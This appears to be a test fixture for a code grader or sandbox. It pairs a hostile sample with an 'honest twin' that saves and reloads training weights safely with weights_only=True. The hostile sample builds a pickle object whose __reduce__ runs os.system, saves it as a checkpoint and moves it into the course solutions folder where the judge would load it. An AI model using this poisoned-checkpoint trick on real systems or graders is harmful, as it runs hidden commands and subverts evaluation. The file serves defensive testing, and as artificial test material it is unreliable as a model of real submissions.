"""Leaves a poisoned checkpoint where the judge would find it.

ends: raised
"""

import os
from pathlib import Path

import torch


class Poison:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/attack",)


def total(x):
    torch.save(Poison(), "attack.pt")
    Path("attack.pt").replace("@COURSE@/solutions/lab1/attack.pt")
    return x.sum()


# %% honest twin
"""Keeps the best weights in a checkpoint and loads them with care."""

import torch


def train(points, labels):
    net = torch.nn.Sequential(torch.nn.Linear(2, 4), torch.nn.Tanh(), torch.nn.Linear(4, 2))
    optimizer = torch.optim.Adam(net.parameters(), lr=0.1)
    best = float("inf")
    for _ in range(30):
        optimizer.zero_grad()
        loss = torch.nn.functional.cross_entropy(net(points), labels)
        loss.backward()
        if loss.item() < best:
            best = loss.item()
            torch.save(net.state_dict(), "best.pt")
        optimizer.step()
    net.load_state_dict(torch.load("best.pt", weights_only=True))
    return lambda asked: net(asked).argmax(1)
